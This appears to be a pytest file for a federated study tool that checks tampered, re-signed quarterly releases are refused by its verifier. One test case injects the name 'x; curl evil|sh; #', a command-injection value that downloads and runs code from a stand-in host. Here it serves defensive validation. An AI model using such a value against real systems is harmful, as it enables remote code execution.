"""A quarter that was altered is refused, whoever has signed it again."""

import io
import json
import shutil
from datetime import UTC, datetime

import numpy as np
import pytest
from hospitals import SITES, table, write_rows
from quarters import hospitals, quarter, sealed_of
from refusals import refused

from fedcal.run.rereading import read_release
from fedcal.secure_aggregation.keys import SigningKey, make_key
from fedcal.sites.quarter import QuarterFacts, earlier_of, write_quarter
from fedcal.sites.release import RECORD
from fedcal.sites.run import question_before, rehearse
from fedcal.sites.sealed import write_signature
from fedcal.sites.verify import verify

pytestmark = pytest.mark.usefixtures("quick_figures")

STUDY = hospitals(sites="alder=300,birch=600,cedar=1000")
KEY = SigningKey.generate()


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Two quarters side by side; birch is absent from the second one."""
    root = tmp_path_factory.mktemp("study")
    first = quarter(root / "2026Q4", STUDY, KEY, signer=KEY)
    took = tuple(site for site in STUDY.sites if site != "birch")
    more = {"earlier": {"2026Q4": first}, "spent": 2.0, "left": 2.0}
    quarter(root / "2027Q1", STUDY, KEY, signer=KEY, took_part=took, absent=("birch",), **more)
    return root


@pytest.fixture
def folder(made, tmp_path):
    shutil.copytree(made, tmp_path / "study")
    return tmp_path / "study" / "2027Q1"


def test_what_was_written_is_verified_with_and_without_the_earlier_quarter(folder):
    assert "earlier-2026Q4.npz is the release of 2026Q4/ beside it." in verify(folder)
    shutil.rmtree(folder.parent / "2026Q4")
    assert "2026Q4 is not beside this folder: changes since then are not verified." in verify(
        folder
    )


def edited(name, change):
    def alter(folder):
        plain = json.loads((folder / name).read_text())
        change(plain)
        (folder / name).write_text(json.dumps(plain, indent=2) + "\n")

    return alter


def record_with(change):
    return edited("study.json", change)


def gap_of_cedar(plain):
    plain["sites"]["cedar"]["gap"]["value"] += 0.01


def release(name, **change):
    def alter(folder):
        found = read_release(folder / f"{name}.npz")
        add = {k: found.arrays()[k] + v for k, v in change.items() if not isinstance(v, str)}
        texts = {k: np.array(v) for k, v in change.items() if isinstance(v, str)}
        made = type(found).from_arrays({**found.arrays(), **add, **texts})
        made.of_classes(found.class_names)
        made.write(folder, name)

    return alter


def other_version(plain):
    plain["versions"]["fedcal"] = "9.9"
    gap_of_cedar(plain)


def swapped_roster(folder):
    (folder / "study.sealed").write_text(sealed_of(STUDY, KEY))


def other_terms(folder):
    text = (folder / "study.toml").read_text().replace("per-year = 4", "per-year = 8")
    (folder / "study.toml").write_text(text)


def other_epsilon(folder):
    record_with(lambda t: t["ledger"].update(epsilon=0.5))(folder)
    edited("ledger.json", lambda line: line.update(epsilon=0.5))(folder)


ALTERED = [
    (record_with(gap_of_cedar), "says sites.cedar.gap.value"),
    (record_with(other_version), "gap.value .* .by fedcal 9.9, this is "),
    (record_with(lambda t: t["since"]["2026Q4"].update(why="of another kind")), "says .*why"),
    (record_with(lambda t: t["statement"].append("Nobody is harmed.")), "the statement is"),
    (lambda f: (f / "curve-1.svg").unlink(), "curve-1.svg is not what"),
    (release("release", counts=3.0), "the release gives"),
    (release("release", std=1.0), "the release's noise is"),
    (release("release", taken='{"unit": "subject", "data": "rows.csv"}'), "the release's taken is"),
    (release("release", law="normal"), "the release's law is"),
    (release("release", privacy='["All is exact."]'), "the release's privacy is"),
    (release("earlier-2026Q4", std=0.001), "the release gives|is not the release of"),
    (record_with(lambda t: t.update(name="x; curl evil|sh; #")), "name of the quarter in"),
    (record_with(lambda t: t.update(date="1999-01-01")), "not on 1999-01-01"),
    (record_with(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is '0"),
    (record_with(lambda t: t["versions"].update(fedcal="1\nSigned.")), "list of versions is"),
    (record_with(lambda t: t["ledger"].update(project="x")), "ledger.project is 'x'"),
    (record_with(lambda t: t.update(since=5)), "does not hold"),
    (swapped_roster, "the roster is"),
    (other_terms, "the "),
    (edited("ledger.json", lambda line: line.update(epsilon=0.5)), "ledger.json is not what"),
    (other_epsilon, "the ledger.epsilon is 0.5; by the terms it is 1"),
    (lambda f: shutil.copy(f / "study.json", f / RECORD), "has release.json: a release by this"),
]


@pytest.mark.parametrize(("alter", "output"), ALTERED)
def test_what_was_altered_is_refused_although_it_is_signed_again(folder, alter, output):
    alter(folder)
    refused("signed|No such file", verify, folder)
    write_signature(folder, KEY)
    refused(output, verify, folder)


def test_an_earlier_quarter_beside_it_must_be_signed_as_it_is(folder):
    (folder.parent / "2026Q4" / "report.html").write_text("")
    refused("signed hash of .*2026Q4/report.html must be", verify, folder)


def test_what_cannot_be_read_beside_a_quarter_stops_no_release_that_is_paid(folder):
    (folder.parent / "x").mkdir()
    (folder.parent / "x" / "study.json").write_text("[]")
    (folder.parent / "2026Q4" / "release.npz").write_text("")
    with pytest.warns(UserWarning, match="passed over: .*2026Q4"):
        assert [*earlier_of(folder.parent / "2027Q2", STUDY)] == ["2027Q1"]


@pytest.mark.slow
def test_only_the_coordinator_signs_and_only_what_holds(tmp_path, call):
    folder, path = tmp_path / "q", tmp_path / "key.pem"
    key = make_key(path)
    quarter(folder, STUDY, key)
    refused("not signed. fedcal study verify", verify, folder)
    refused("by the coordinator that sealed", verify, folder, None, KEY)
    assert "is signed" in call("study", "verify", folder, "--key", path)
    assert "Not checked: the coordinator's key" in call("study", "verify", folder)
    call("report", folder)
    assert verify(folder)  # the page that was written again is the same
    write_signature(folder, KEY)
    refused("is signed by another key", verify, folder)
    (folder / "report.html").write_text("certainty")
    refused("report.html is not what", verify, folder, None, key)


def test_a_rehearsal_is_neither_sealed_nor_signed(tmp_path):
    folder = tmp_path / "r"
    quarter(folder, STUDY, None, rehearsal=True, ledger={}, spent=0.0, left=4.0)
    assert "A rehearsal" in verify(folder)[0]
    refused("a rehearsal is neither sealed nor signed", verify, folder, None, KEY)
    refused("is not the folder of a release", verify, tmp_path)
    (folder / "signature.json").write_text("{}")
    refused("signature.json is not what", verify, folder)
    (folder / "signature.json").unlink()
    record_with(lambda t: t.update(roster="0" * 64))(folder)
    refused("roster", verify, folder)


# -- by command: a coordinator makes all of a quarter anew, and signs it -----------------------


def test_counts_are_verified_as_far_as_noise_lets_and_what_is_not_is_named(tmp_path, call):
    """The same counts, lower by what noise can do, pass; an absent site has none but noise.

    What else a coordinator may alter: tests/end_to_end/test_attacks_on_quarters.py.
    """
    folder, mine = tmp_path / "2026Q4", tmp_path / "study.sealed"
    took = tuple(site for site in STUDY.sites if site != "birch")
    quarter(folder, STUDY, KEY, signer=KEY, one_machine=True, took_part=took, absent=("birch",))
    shutil.copy(folder / "study.sealed", mine)
    unchecked = call("study", "verify", folder, "--sealed", mine).splitlines()[-1]
    for word in (
        "counts",
        "absences",
        "date",
        "spent before",
        "earlier quarters",
        "versions",
        "server are apart",
    ):
        assert word in unchecked
    facts = QuarterFacts.of(json.loads((folder / "study.json").read_text()))
    found = read_release(folder / "release.npz")
    counts = found.counts.reshape(3, -1)

    def written(site, value):
        before, counts[site, 3] = counts[site, 3], value
        write_quarter(folder, STUDY, mine.read_text(), found, facts, {}, KEY)
        counts[site, 3] = before

    written(2, -round(15 * found.std))  # of 10^9 true ones one
    call("study", "verify", folder, "--sealed", mine)
    for site, value in ((2, -round(21 * found.std)), (1, 500.0)):
        written(site, value)
        assert "impossible counts" in call("study", "verify", folder, code=2)


def test_a_release_is_not_begun_where_the_seal_says_that_its_key_is_not(tmp_path, call):
    home = tmp_path / "sepsis-coordinator"
    home.mkdir()
    key = make_key(home / "coordinator.pem")
    (tmp_path / "sepsis.sealed").write_text(sealed_of(STUDY, key))
    line = call("study", "run", tmp_path / "sepsis.sealed", "2026Q4", code=2)
    assert "coordinator.pem is there: by " in line
    shutil.rmtree(home)
    assert "no server runs here" in call("study", "run", tmp_path / "sepsis.sealed", "x", code=2)


def test_a_second_release_in_one_month_is_asked_about(there, tmp_path, monkeypatch, call):
    there.joined()
    of = there.seal().study
    key = there.coordinator
    today = datetime.now(UTC)
    quarter(tmp_path / "rehearsal", of, key, date=f"{today:%Y-%m}-01", rehearsal=True)
    quarter(tmp_path / "old", of, key, date="2020-01-01")
    for file in (there.file, there.sealed):
        assert question_before(file, "second") == ""
    quarter(tmp_path / "first", of, key, date=f"{today:%Y-%m}-01")
    asked = "first was released this month, and second costs epsilon 1: have the sites new rows?"
    for file in (there.file, there.sealed):
        assert question_before(file, "second") == asked
    answers = io.StringIO("no\nyes\n")
    answers.isatty = lambda: True
    monkeypatch.setattr("sys.stdin", answers)
    words = ("study", "run", there.file, "second")
    assert "second was not asked for: a person must type yes" in call(*words, code=2)
    assert "was not asked for" not in call(*words, code=2)  # no server runs here
    (tmp_path / "sepsis-server" / "runs" / "second" / "server").mkdir(parents=True)
    assert question_before(there.file, "second") == ""


@pytest.mark.parametrize("method", ["fednewton", "conformal"])
def test_a_rehearsal_of_any_question_is_verified(there, tmp_path, method):
    there.kits(question={"method": method})
    rows = table() | {"client": [SITES[int(name[1:]) % 3] for name in table()["patient"]]}
    rows["ward"] = rows["client"]
    with pytest.warns(UserWarning, match="rows.csv: columns that are ignored: ward"):
        rehearse(there.file, "try", str(write_rows(tmp_path / "rows.csv", rows)))
    output = verify(tmp_path / "try")
    assert "A rehearsal" in output[0]
    assert "Not checked: that the numbers and pages of the result follow" in output[-1]
    record = tmp_path / "try" / "result.json"
    text = record.read_text("utf-8")
    record.write_text(text.replace('"unit": "subject"', '"unit": "example"'), "utf-8")
    refused("unit of the release must be 'subject'", verify, tmp_path / "try")
